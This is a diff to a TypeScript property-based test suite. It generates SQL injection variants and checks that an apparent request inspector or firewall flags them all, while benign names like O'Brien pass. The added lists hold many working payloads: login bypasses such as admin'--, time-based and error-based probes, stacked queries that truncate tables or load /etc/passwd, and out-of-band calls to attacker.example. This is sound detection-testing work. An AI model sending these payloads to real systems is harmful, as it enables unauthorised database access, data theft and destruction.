@@ -38,7 +38,8 @@ const SP: Piece = { k: "sp" };
 const SP0: Piece = { k: "sp0" };
 
 /** Tiny SQL template language: words in UPPER case are keywords, a blank is a needed blank, `^` an optional one,
- *  #n a number, $s a string ($$s: one that must stay a quoted literal), @x an identifier; anything else is punctuation. */
+ *  #n a number, $s a string ($$s: one that must stay a quoted literal), @x an identifier, ␣ a space no blank replaces;
+ *  anything else is punctuation. */
 function sql(template: string): Piece[] {
   const out: Piece[] = [];
   for (const part of template.split(/(\s+|\^)/)) {
@@ -46,7 +47,7 @@ function sql(template: string): Piece[] {
     if (part === "^") { out.push(SP0); continue; }
     if (/^\s+$/.test(part)) { out.push(SP); continue; }
     let seen = 0;
-    for (const m of part.matchAll(/#(\d+)|\$(\$?)([^\s,()=]+)|@([A-Za-z_][A-Za-z0-9_]*)|(@@[a-z_]+)|([A-Z_][A-Z0-9_]*)|([^#$@A-Z]+?)(?=#|\$|@|[A-Z_]|$)/g)) {
+    for (const m of part.matchAll(/#(\d+)|\$(\$?)([^\s,()=<>!$]+)|@([A-Za-z_][A-Za-z0-9_]*)|(@@[a-z_]+)|([A-Z_][A-Z0-9_]*)|((?:[^#$@A-Z]|#(?!\d))+?)(?=#\d|\$|@|[A-Z_]|$)/g)) {
       seen += m[0].length;
       if (m[1] !== undefined) out.push(num(Number(m[1])));
       else if (m[3] !== undefined) out.push(str(m[3], m[2] === "$"));
@@ -94,11 +95,45 @@ const OUT_OF_BAND = [
   "; EXEC MASTER..XP_DIRTREE $\\\\attacker.example\\a", "AND LOAD_FILE(CONCAT($\\\\\\\\,VERSION(),$.attacker.example\\\\a))",
   "AND #1=UTL_HTTP.REQUEST($http://attacker.example/)", "; COPY (SELECT $x) TO PROGRAM $nslookup", "UNION SELECT #1 INTO OUTFILE $/tmp/x",
 ];
+// Breakouts that stay inside the expression: the value closes the string, concatenates a subquery or call, and
+// reopens it for the application's closing quote (MSSQL +, PostgreSQL/Oracle ||, MySQL adjacent or arithmetic).
+const CONCAT_BREAKOUTS = [
+  "x'+(SELECT @@version)+'", "x'||(SELECT VERSION())||'", "x'||PG_SLEEP(#5)||'", "x'+CHAR(#65)+'", "x'-SLEEP(#5)-'",
+  "x'||UTL_INADDR.GET_HOST_NAME((SELECT USER FROM DUAL))||'", "x' AND SLEEP(#5) AND 'a'='a", "#1-IF(#1=#1,SLEEP(#5),#0)",
+  "x'*(SELECT #1 FROM(SELECT SLEEP(#5))@a)*'", "x' AND (SELECT SUBSTRING(@password,#1,#1) FROM @users LIMIT 1)=$a AND '1'='1",
+];
+// Authentication bypasses: the classic whole values of a login form.
+const AUTH_BYPASSES = [
+  "admin'--", "admin'#", "admin'/*", "' OR ''='", "' OR #1 --␣-", "') OR ('a'='a", "\" OR \"\"=\"", "' OR 'x'='x", "1' OR '1'='1'/*",
+  "admin' OR #1=#1#", "' OR #1=#1 LIMIT 1--␣-", "admin') --␣-", "' OR TRUE--␣-", "'=' OR '",
+];
 const ORDER_BY_BODIES = [
   ", (SELECT CASE WHEN (#1=#1) THEN #1 ELSE #1/#0 END)", ", IF(#1=#1,SLEEP(#5),#0)", " ,(SELECT #1 FROM PG_SLEEP(#5))",
   ", EXTRACTVALUE(#1,CONCAT(0x7e,VERSION()))",
 ];
-const FAMILIES = { TAUTOLOGIES, UNIONS, STACKED, TIME_BASED, ERROR_BASED, BLIND, OUT_OF_BAND };
+// The same families with other operators and spellings: && || <> != DIV, REGEXP, glued parentheses for blanks.
+const OPERATORS = [
+  "&& #1=#1", "|| $a<>$b", "AND #2!=#3", "OR #4 DIV #2=#2", "AND #1 REGEXP #1", "OR NOT(#1=#2)", "AND(#1)=(#1)",
+  "OR(SELECT(SLEEP(#5)))", "AND(SELECT #1 FROM(SELECT(SLEEP(#5)))@a)", "UNION(SELECT(#1),(#2))", "OR #1 SOUNDS LIKE #1",
+  "AND #1=#1 AND $a LIKE $a", "AND @@version LIKE $5%", "OR ASCII(USER())>#0",
+];
+const CLAUSES = [
+  "ORDER BY #3", "GROUP BY #1,#2,#3", "HAVING #1=#1", "UNION SELECT #1,#2 FROM DUAL", "PROCEDURE ANALYSE()",
+  "UNION SELECT * FROM (SELECT #1)@a JOIN (SELECT #2)@b", "LIMIT #1 INTO @@x", "UNION SELECT TOP #1 @name FROM SYSOBJECTS",
+];
+const MORE_STACKED = [
+  "; EXEC($sel+$ect)", "; EXEC SP_EXECUTESQL N$$select", "; CREATE TABLE @x(@a INT)", "; ALTER TABLE @users ADD @x INT",
+  "; TRUNCATE TABLE @logs", "; SELECT DBMS_PIPE.RECEIVE_MESSAGE($a,#5) FROM DUAL", "; LOAD DATA INFILE $/etc/passwd INTO TABLE @x",
+  "; SET @@x=#1", "; SELECT * FROM @users",
+];
+const MORE_TIME_ERROR = [
+  "AND #1=IF(#2>#1,SLEEP(#5),#0)", "OR #1=(SELECT #1 FROM (SELECT SLEEP(#5))@a)", "AND #1=DBMS_PIPE.RECEIVE_MESSAGE($a,#5)",
+  "AND RANDOMBLOB(#100000000)", "AND GTID_SUBSET(CONCAT(0x7e,(SELECT VERSION())),#1)",
+  "AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,USER())) USING @utf8)))", "OR #1 GROUP BY CONCAT(VERSION(),FLOOR(RAND(#0)*#2)) HAVING MIN(#0)",
+  "AND #1=(SELECT TOP #1 @name FROM SYSOBJECTS)", "AND ROW(#1,#1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(#0)*#2))@x FROM INFORMATION_SCHEMA.TABLES GROUP BY @x)",
+  "AND #1=UTL_INADDR.GET_HOST_ADDRESS($x.attacker.example)", "AND EXTRACTVALUE(XMLTYPE($x),$/l)",
+];
+const FAMILIES = { TAUTOLOGIES, UNIONS, STACKED, TIME_BASED, ERROR_BASED, BLIND, OUT_OF_BAND, OPERATORS, CLAUSES, MORE_STACKED, MORE_TIME_ERROR };
 const BODIES = Object.values(FAMILIES).flat();
 
 // ---- contexts -----------------------------------------------------------------------------
@@ -126,7 +161,8 @@ interface Style {
   seed: number;
 }
 
-const BLANKS = [" ", "  ", "/**/", "/*x*/", "\n", "\t", "\f", "\r\n", "\u00a0", "\v"];
+// What stands for a space: blanks MySQL, MSSQL and PostgreSQL skip, comments, and comments that end at a line break.
+const BLANKS = [" ", "  ", "/**/", "/*x*/", "\n", "\t", "\f", "\r\n", "\u00a0", "\v", "--\n", "#\n", "-- x\n", "/*!*/", "\t\n"];
 
 function mix(word: string, seed: number): string {
   let out = "";
@@ -166,7 +202,7 @@ function render(pieces: Piece[], st: Style, quote = "'"): string {
       case "id": out += st.backticks ? `\`${p.v}\`` : p.v; break;
       case "num": out += st.sciNumbers && Number.isInteger(p.v) && p.v < 100 ? `${p.v}e0` : String(p.v); break;
       case "str": out += p.plain ? `${quote}${p.v}${quote}` : renderString(p.v, st, quote); break;
-      case "raw": out += p.v; break;
+      case "raw": out += p.v.replaceAll("␣", " "); break;
     }
   }
   return out;
@@ -249,6 +285,14 @@ const orderBy = fc
     return { value, place, plus: false, req: request(place, value, false) };
   });
 
+const whole = fc
+  .record({ body: fc.constantFrom(...CONCAT_BREAKOUTS, ...AUTH_BYPASSES), st: style, place: fc.constantFrom(...PLACES), plus: fc.boolean() })
+  .filter(({ st, place }) => blankFits(place, st.blank))
+  .map(({ body, st, place, plus }) => {
+    const value = render(sql(body), { ...st, strings: st.strings === "hex" ? "quote" : st.strings });
+    return { value, place, plus, req: request(place, value, plus) };
+  });
+
 // Benign values that look like SQL to a careless filter.
 const NAMES = ["O'Brien", "D'Angelo", "O'Neil-Smith", "Ngũgĩ wa Thiong'o", "Mary-Kate O'Hara", "Jean-Luc d'Arcy", "L'Oréal"];
 const PROSE = [
@@ -293,7 +337,7 @@ const benign = fc
 describe("generated SQL injection variants", () => {
   it("blocks every generated attack at PL1, in every context and place", () => {
     fc.assert(
-      fc.property(fc.oneof({ weight: 5, arbitrary: attack }, { weight: 1, arbitrary: orderBy }), ({ value, place, req }) => {
+      fc.property(fc.oneof({ weight: 6, arbitrary: attack }, { weight: 1, arbitrary: orderBy }, { weight: 2, arbitrary: whole }), ({ value, place, req }) => {
         const v = inspect(h, req);
         expect(v.attack, `${place}: ${JSON.stringify(value)} scored ${v.score}`).toBe(true);
       }),
@@ -317,7 +361,7 @@ if (process.env.SQLI_GEN_SURVEY) {
   it("survey", () => {
     const n = Number(process.env.SQLI_GEN_SURVEY);
     const misses: string[] = [];
-    for (const a of fc.sample(fc.oneof({ weight: 5, arbitrary: attack }, { weight: 1, arbitrary: orderBy }), { seed: SEED, numRuns: n })) {
+    for (const a of fc.sample(fc.oneof({ weight: 6, arbitrary: attack }, { weight: 1, arbitrary: orderBy }, { weight: 2, arbitrary: whole }), { seed: SEED, numRuns: n })) {
       const v = inspect(h, a.req);
       if (!v.attack) misses.push(`${a.place}\t${v.score}\t${JSON.stringify(a.value).replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)}`);
     }
